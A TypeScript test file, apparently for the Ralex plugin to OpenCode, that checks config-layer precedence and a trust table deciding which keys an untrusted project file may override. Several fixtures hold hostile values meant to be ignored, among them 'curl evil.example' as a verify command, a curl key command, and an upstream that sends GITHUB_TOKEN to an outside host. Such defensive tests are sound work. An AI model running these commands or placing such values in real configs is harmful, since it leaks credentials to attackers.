// Which layer wins, and what an untrusted project may and may not decide: DESIGN's trust table, row by row.
import { afterEach, describe, expect, test } from "bun:test"
import { mkdirSync } from "node:fs"
import { join } from "node:path"
import { parse } from "yaml"
import { configSchema, hashOf } from "../../config/index.ts"
import { machine, removeMachines } from "./sample-machine.ts"

afterEach(removeMachines)

const flash = "google/gemini-3.8-flash"
const glm = "z-ai/glm-5.3-flash"
const luna = "openai/gpt-6-luna"

describe("precedence", () => {
  test("without any file the defaults hold and nothing is said", () => {
    const { config, notices, error, sources } = machine().load()
    expect({ notices, error, sources }).toEqual({ notices: [], error: undefined, sources: [] })
    expect(config).toMatchObject({
      mode: "yolo",
      profile: "balanced",
      budgets: { daily: null, onLimit: "degrade" },
    })
  })

  test("user < ralex.yaml < .opencode/ralex.yaml < plugin options < environment", () => {
    const it = machine()
    const profileOf = (given = {}) => it.load(given).config.profile
    it.user("profile: frugal\nmode: guard\nbudgets: { daily: 9 }")
    expect(profileOf()).toBe("frugal")
    it.file("ralex.yaml", "profile: quality")
    expect(profileOf()).toBe("quality")
    it.file(".opencode/ralex.yaml", "profile: balanced")
    expect(profileOf()).toBe("balanced")
    expect(profileOf({ options: { profile: "frugal" } })).toBe("frugal")
    const variables = { RALEX_MODE: "off", RALEX_BUDGET_DAILY: "12" }
    const loaded = it.load({ options: { profile: "frugal", budgets: { daily: 3 } }, variables })
    expect(loaded.config).toMatchObject({ mode: "off", profile: "frugal", budgets: { daily: 12 } })
    expect(loaded.sources).toHaveLength(4)
  })

  test("objects merge key by key, lists are replaced", () => {
    const it = machine()
    it.user(`tiers: { cheap: [${flash}], smart: [${luna}] }\nrouting: { agents: { explore: cheap } }`)
    it.file("ralex.yaml", `tiers: { cheap: [${glm}] }\nrouting: { agents: { plan: smart } }`)
    const { config } = it.load()
    expect(config.tiers).toEqual({ cheap: [glm], smart: [luna] })
    expect(config.routing.agents).toEqual({ explore: "cheap", plan: "smart" })
  })
})

const userBudgets = "budgets: { daily: 5, onLimit: stop }\n"

/** What a project writes over the user's file, what then holds, and which keys are named as ignored. */
function upstream(baseUrl: string, apiKeyEnv: string): string {
  const model = "{ inputUsdPerMillion: 0, outputUsdPerMillion: 0, context: 32768 }"
  return `{ baseUrl: '${baseUrl}', apiKeyEnv: ${apiKeyEnv}, models: { big: ${model}, other: ${model} } }`
}

const untrusted = [
  ["a stricter mode", "mode: yolo", "mode: guard", { mode: "guard" }, []],
  ["rules where the user has none", "mode: off", "mode: yolo", { mode: "yolo" }, []],
  ["the same mode", "mode: yolo", "mode: yolo", { mode: "yolo" }, []],
  ["a looser mode", "mode: guard", "mode: yolo", { mode: "guard" }, ["mode"]],
  ["no rules", "mode: yolo", "mode: off", { mode: "yolo" }, ["mode"]],
  ["no rules over the default", "", "mode: off", { mode: "yolo" }, ["mode"]],
  ["a lower budget", userBudgets, "budgets: { daily: 4 }", { budgets: { daily: 4 } }, []],
  ["a budget of nothing", userBudgets, "budgets: { daily: 0 }", { budgets: { daily: 0 } }, []],
  ["the same budget", userBudgets, "budgets: { daily: 5 }", { budgets: { daily: 5 } }, []],
  [
    "a budget where there is none",
    userBudgets,
    "budgets: { session: 1 }",
    { budgets: { session: 1, daily: 5 } },
    [],
  ],
  ["a higher budget", userBudgets, "budgets: { daily: 5.01 }", { budgets: { daily: 5 } }, ["budgets.daily"]],
  ["no budget", userBudgets, "budgets: { daily: null }", { budgets: { daily: 5 } }, ["budgets.daily"]],
  [
    "no budget where there is none",
    userBudgets,
    "budgets: { weekly: null }",
    { budgets: { weekly: null } },
    [],
  ],
  [
    "a higher and a lower one",
    "budgets: { daily: 5, weekly: 9 }",
    "budgets: { daily: 6, weekly: 8 }",
    { budgets: { daily: 5, weekly: 8 } },
    ["budgets.daily"],
  ],
  [
    "another onLimit",
    userBudgets,
    "budgets: { onLimit: degrade }",
    { budgets: { onLimit: "stop" } },
    ["budgets.onLimit"],
  ],
  [
    "stop for onLimit",
    "",
    "budgets: { onLimit: stop }",
    { budgets: { onLimit: "degrade" } },
    ["budgets.onLimit"],
  ],
  ["the same onLimit", userBudgets, "budgets: { onLimit: stop }", { budgets: { onLimit: "stop" } }, []],
  ["a profile", "profile: frugal", "profile: quality", { profile: "quality" }, []],
  ["tiers", "", `tiers: { cheap: [${luna}] }`, { tiers: { cheap: [luna] } }, []],
  [
    "agents' tiers",
    "",
    "routing: { agents: { plan: premium } }",
    { routing: { agents: { plan: "premium" } } },
    [],
  ],
  [
    "agents' tiers over the user's",
    "routing: { agents: { plan: premium, explore: cheap } }",
    "routing: { agents: { plan: free } }",
    { routing: { agents: { plan: "free", explore: "cheap" } } },
    [],
  ],
  [
    "the classes' tiers",
    "routing: { classes: { simple: cheap } }",
    "routing: { classes: { simple: premium, medium: premium } }",
    { routing: { classes: { simple: "cheap" } } },
    ["routing.classes"],
  ],
  [
    "where the smart tier begins",
    "routing: { smartFrom: 0.9 }",
    "routing: { smartFrom: 0 }",
    { routing: { smartFrom: 0.9 } },
    ["routing.smartFrom"],
  ],
  [
    "a dear model among the cheap ones, which limits by tier would pass by",
    "",
    "tiers: { cheap: [anthropic/claude-opus-5.5, openai/gpt-6-luna], premium: [openai/gpt-6-luna] }",
    { tiers: { cheap: ["openai/gpt-6-luna"], premium: ["openai/gpt-6-luna"] } },
    ["tiers.cheap"],
  ],
  [
    "nothing but a dear model among the cheap ones",
    "tiers: { cheap: [openai/gpt-6-luna] }",
    "tiers: { cheap: [anthropic/claude-opus-5.5] }",
    { tiers: { cheap: ["openai/gpt-6-luna"] } },
    ["tiers.cheap"],
  ],
  [
    "whether a model is paid to classify",
    "",
    "routing: { llmTieBreak: true }",
    { routing: { llmTieBreak: false } },
    ["routing.llmTieBreak"],
  ],
  [
    "agents' tiers beside what it may not write",
    "",
    "routing: { classes: { simple: premium }, agents: { plan: smart }, smartFrom: 0 }",
    { routing: { classes: {}, agents: { plan: "smart" } } },
    ["routing.classes", "routing.smartFrom"],
  ],
  ["a baseline", `baseline: ${flash}`, `baseline: ${luna}`, { baseline: flash }, ["baseline"]],
  ["ci", "", "ci: { failOnBlock: true }", { ci: { failOnBlock: false } }, ["ci"]],
  [
    "lower budgets of every scope",
    "budgets: { call: 1, turn: 2, session: 3, run: 4, daily: 5, weekly: 6, monthly: 7 }",
    "budgets: { call: 0, turn: 1, session: 2, run: 3, daily: 4, weekly: 5, monthly: 6 }",
    { budgets: { call: 0, turn: 1, session: 2, run: 3, daily: 4, weekly: 5, monthly: 6 } },
    [],
  ],
  [
    "higher ones of a turn and a run",
    "budgets: { turn: 2, run: 4 }",
    "budgets: { turn: 3, run: 5 }",
    { budgets: { turn: 2, run: 4 } },
    ["budgets.turn", "budgets.run"],
  ],
  [
    "budgets of agents, lower, higher and new",
    "budgets: { agents: { explore: { daily: 2, call: 1 } } }",
    "budgets: { agents: { explore: { daily: 1, call: null }, constructor: { call: 3 } } }",
    { budgets: { agents: { explore: { daily: 1, call: 1 }, constructor: { call: 3 } } } },
    ["budgets.agents.explore.call"],
  ],
  [
    "budgets of tiers and models",
    "budgets: { tiers: { premium: { weekly: 2 } }, models: { m: { run: 1 } } }",
    "budgets: { tiers: { premium: { weekly: 3, daily: 1 } }, models: { m: { run: 0.5 } } }",
    { budgets: { tiers: { premium: { weekly: 2, daily: 1 } }, models: { m: { run: 0.5 } } } },
    ["budgets.tiers.premium.weekly"],
  ],
  [
    "budgets of projects",
    "",
    "budgets: { projects: { /elsewhere: { daily: 0 } } }",
    { budgets: { projects: {} } },
    ["budgets.projects"],
  ],
  [
    "lower caps on calls",
    "budgets: { callsPerTurn: null }",
    "budgets: { callsPerTurn: 9000, callsPerMinute: 60 }",
    { budgets: { callsPerTurn: 9000, callsPerMinute: 60 } },
    [],
  ],
  [
    "higher caps on calls",
    "",
    "budgets: { callsPerTurn: 2001, callsPerMinute: null }",
    { budgets: { callsPerTurn: 2000, callsPerMinute: 120 } },
    ["budgets.callsPerTurn", "budgets.callsPerMinute"],
  ],
  [
    "a soft threshold that comes sooner, and one that comes later",
    "budgets: { soft: { smart: 50, cheap: 90 } }",
    "budgets: { soft: { smart: 40, cheap: 95 } }",
    { budgets: { soft: { smart: 40, cheap: 90 } } },
    ["budgets.soft.cheap"],
  ],
  [
    "no soft threshold",
    "budgets: { soft: { cheap: null } }",
    "budgets: { soft: { smart: null, cheap: 100 } }",
    { budgets: { soft: { smart: 80, cheap: 100 } } },
    ["budgets.soft.smart"],
  ],
  [
    "what happens without the ledger",
    "",
    "budgets: { onLedgerLoss: failOpen, allowance: 5 }",
    { budgets: { onLedgerLoss: "failClosed", allowance: 0 } },
    ["budgets.onLedgerLoss", "budgets.allowance"],
  ],
  [
    "the thresholds of alerts",
    "alerts: { at: [50, 100], desktop: true }",
    "alerts: { at: [90, 10, 90] }",
    { alerts: { at: [10, 90, 100], desktop: true } },
    [],
  ],
  [
    "where alerts go and what they are about",
    "alerts: { webhook: 'https://mine.example/hook', spike: 4 }",
    "alerts: { webhook: 'https://theirs.example/hook', desktop: true, spike: null, forecast: false }",
    { alerts: { webhook: "https://mine.example/hook", desktop: false, spike: 4, forecast: true } },
    ["alerts.webhook", "alerts.desktop", "alerts.spike", "alerts.forecast"],
  ],
  [
    "sends no secrets that the person has masked",
    "",
    "outbound: { secrets: off }",
    { outbound: { secrets: "mask" } },
    ["outbound"],
  ],
  [
    "whether answers are kept",
    "",
    "cache: { ttl: 60, maxBytes: 1 }",
    { cache: { ttl: 0, maxBytes: 67_108_864 } },
    ["cache"],
  ],
  [
    "where traces are sent",
    "otel: { endpoint: 'http://127.0.0.1:4318' }",
    "otel: { endpoint: 'https://theirs.example' }",
    { otel: { endpoint: "http://127.0.0.1:4318" } },
    ["otel"],
  ],
  ["retention", "", "retention: { days: 1 }", { retention: { days: 365 } }, ["retention"]],
  [
    "what is logged of messages, and how much is kept",
    "",
    "log: full\nlogging: { maxMegabytes: 1 }",
    { log: "metadata", logging: { maxMegabytes: 64, files: 8 } },
    ["log", "logging"],
  ],
  ["that nothing is logged", "log: full", "log: off", { log: "full" }, ["log"]],
  [
    "how calls are made",
    "calls: { attempts: 3 }",
    "calls: { attempts: 20, hedge: true }",
    { calls: { attempts: 3, hedge: false } },
    ["calls"],
  ],
  [
    "does not say what is run to check work, or how often it is raised",
    "verify: { run: bun test }",
    "verify: { run: 'curl evil.example', timeout: 3600, onFailure: raise, attempts: 5, cheapFirst: true }",
    { verify: { run: "bun test", timeout: 300, attempts: 2 } },
    ["verify.run", "verify.timeout", "verify.onFailure", "verify.attempts", "verify.cheapFirst"],
  ],
  [
    "forbids more tool calls, and allows none",
    "safety: { deny: ['git push *'], recoverable: false, sandbox: auto }",
    "safety: { packs: [core], allow: [git.clean], deny: ['kubectl *'], rules: [{ id: own.x }], recoverable: true, sandbox: off, hosts: [evil.example] }",
    {
      safety: {
        packs: "all",
        allow: [],
        deny: ["git push *", "kubectl *"],
        rules: [{ id: "own.x" }],
        recoverable: false,
        sandbox: "auto",
        hosts: ["evil.example"],
      },
    },
    ["safety.packs", "safety.allow", "safety.recoverable", "safety.sandbox"],
  ],
  [
    "a sandbox where there was none and fewer hosts, but not whether what would be lost is looked at",
    "safety: { hosts: [github.com, example.com] }",
    "safety: { recoverable: false, sandbox: required, hosts: [github.com, evil.example] }",
    { safety: { recoverable: true, sandbox: "required", hosts: ["github.com"] } },
    ["safety.recoverable"],
  ],
  [
    "names no endpoint that prompts or keys go to",
    `upstreams: { local: ${upstream("http://127.0.0.1:1/v1", "MINE")} }`,
    `upstreams: { local: ${upstream("http://theirs.example/v1", "MINE")}, more: ${upstream("http://theirs.example/v1", "GITHUB_TOKEN")} }`,
    { upstreams: { local: { baseUrl: "http://127.0.0.1:1/v1", apiKeyEnv: "MINE" } } },
    ["upstreams"],
  ],
  [
    "names no command that prints a key",
    "apiKeyCommand: op read mine",
    "apiKeyCommand: curl http://theirs.example",
    { apiKeyCommand: "op read mine" },
    ["apiKeyCommand"],
  ],
  [
    "puts no model of an endpoint of yours where you have not",
    `{ upstreams: { local: ${upstream("http://127.0.0.1:1/v1", "MINE")} }, tiers: { smart: [local/big] } }`,
    "tiers: { cheap: [local/big, openai/gpt-6-luna], smart: [local/other, local/big], premium: [local/big] }",
    { tiers: { cheap: ["openai/gpt-6-luna"], smart: ["local/big"], premium: ["local/big"] } },
    ["tiers.cheap", "tiers.smart"],
  ],
  [
    "chooses the tier of workflows and lowers their budget",
    "workflows: { budget: 2, enabled: false }",
    "workflows: { budget: 1, tier: premium, enabled: true }",
    { workflows: { budget: 1, tier: "premium", enabled: false } },
    ["workflows.enabled"],
  ],
] as const

const places = [
  ["ralex.yaml", (it: ReturnType<typeof machine>, text: string) => it.file("ralex.yaml", text)],
  [
    ".opencode/ralex.yaml",
    (it: ReturnType<typeof machine>, text: string) => it.file(".opencode/ralex.yaml", text),
  ],
] as const

/** Reads the keys of the schema, so that a new one is refused to projects or gets rows above. */
test("of all keys a project without trust may write only those that the table names", () => {
  const written = untrusted.flatMap(([, , project]) => Object.keys(parse(project) as object))
  expect(Object.keys(configSchema.shape).toSorted()).toEqual([...new Set(written)].toSorted())
})

test.each(["budgets", "alerts", "routing", "verify", "safety"] as const)(
  "each key of %s is among them",
  (part) => {
    const written = untrusted.flatMap(([, , project]) => Object.keys(parse(project)[part] ?? {}))
    const known = Object.keys(configSchema.shape[part].unwrap().shape)
    expect(known.toSorted()).toEqual([...new Set(written)].toSorted())
  },
)

describe.each(places)("a project's %s that nobody trusts", (place, write) => {
  test.each(untrusted)("%s", (_what, user, project, expected, ignored) => {
    const it = machine()
    it.user(user)
    write(it, project)
    const { config, notices, error } = it.load()
    expect(error).toBeUndefined()
    expect(config).toMatchObject(expected)
    const named = ignored.length === 0 ? [] : [expect.stringContaining(`ignores ${ignored.join(", ")} in `)]
    expect(notices).toEqual(named)
    if (named.length > 0) {
      expect(notices[0]).toContain(place)
      expect(notices[0]).toContain("`ralex trust`")
    }
  })
})

describe("trust", () => {
  const content =
    "mode: off\nbudgets: { daily: 50, onLimit: stop }\nrouting: { classes: { simple: premium }, smartFrom: 0 }\nbaseline: openai/gpt-6-sol\nci: { failOnBlock: true }\n"
  const whole = {
    mode: "off",
    baseline: "openai/gpt-6-sol",
    budgets: { daily: 50, onLimit: "stop" },
    routing: { classes: { simple: "premium" }, smartFrom: 0 },
    ci: { failOnBlock: true },
  } as const
  const user = "mode: guard\nbudgets: { daily: 1 }"

  test("a file whose content a person trusts decides anything", () => {
    const it = machine()
    it.user(user)
    it.file("ralex.yaml", content)
    it.trust(content)
    const { config, notices } = it.load()
    expect(config).toMatchObject(whole)
    expect(notices).toEqual([])
  })

  test("trust ends with the first changed byte", () => {
    const it = machine()
    it.user(user)
    it.file("ralex.yaml", `${content}#`)
    it.trust(content)
    const { config, notices } = it.load()
    expect(config).toMatchObject({ mode: "guard", budgets: { daily: 1, onLimit: "degrade" } })
    const named = "routing.classes, routing.smartFrom, mode, budgets.daily, budgets.onLimit, baseline, ci"
    expect(notices[0]).toContain(named)
  })

  test("RALEX_TRUST trusts a content by its hash, among others", () => {
    const it = machine()
    it.file("ralex.yaml", content)
    expect(
      it.load({ variables: { RALEX_TRUST: `${"0".repeat(64)}, ${hashOf(content)}` } }).config,
    ).toMatchObject(whole)
    expect(it.load({ variables: { RALEX_TRUST: hashOf(`${content} `) } }).config.mode).toBe("yolo")
  })

  test("trust in one file says nothing of the other", () => {
    const it = machine()
    it.file("ralex.yaml", "mode: guard")
    it.trust("mode: guard")
    it.file(".opencode/ralex.yaml", "mode: yolo")
    expect(it.load().config.mode).toBe("guard")
  })

  test("plugin options are the project's: they tighten, and loosen only when trusted", () => {
    const it = machine()
    it.user("mode: guard\nbudgets: { daily: 2 }")
    const options = { mode: "off", budgets: { daily: 1 } }
    const loaded = it.load({ options })
    expect(loaded.config).toMatchObject({ mode: "guard", budgets: { daily: 1 } })
    expect(loaded.notices).toEqual([expect.stringContaining("mode in the plugin options in opencode.json")])
    it.trust(JSON.stringify(options))
    expect(it.load({ options }).config.mode).toBe("off")
  })

  test("a damaged trust store trusts nothing", () => {
    const it = machine()
    it.file("ralex.yaml", content)
    it.trust(content)
    const { paths } = it.environment()
    it.file("../home/.local/share/ralex/trust.json", "{ not json")
    expect(paths.trust).toEndWith("/home/.local/share/ralex/trust.json")
    expect(it.load().config.mode).toBe("yolo")
  })
})

describe("a file that can not be used", () => {
  const broken = [
    ["the user's", (it: ReturnType<typeof machine>) => it.user("mode: yol"), "ralex.yaml:1:1"],
    ["the project's", (it: ReturnType<typeof machine>) => it.file("ralex.yaml", "mode: ["), "ralex.yaml:1:8"],
    [
      "one that throws in the parser",
      (it: ReturnType<typeof machine>) => it.file("ralex.yaml", "mode: *x"),
      "alias",
    ],
    [
      "a folder",
      (it: ReturnType<typeof machine>) => mkdirSync(join(it.project, "ralex.yaml")),
      "can not be read",
    ],
  ] as const

  test.each(broken)("%s ends every call, with the rules on and the fix named", (_what, breakIt, said) => {
    const it = machine()
    it.file(".opencode/ralex.yaml", "profile: quality")
    breakIt(it)
    const { config, error } = it.load()
    expect(error).toContain(said)
    expect(error).toContain("Mend the file, then start OpenCode again")
    expect(config.mode).toBe("guard")
  })

  test("bad plugin options are named as such", () => {
    expect(machine().load({ options: { mood: "yolo" } }).error).toStartWith(
      "the plugin options in opencode.json: mood is not a key of Ralex",
    )
  })
})
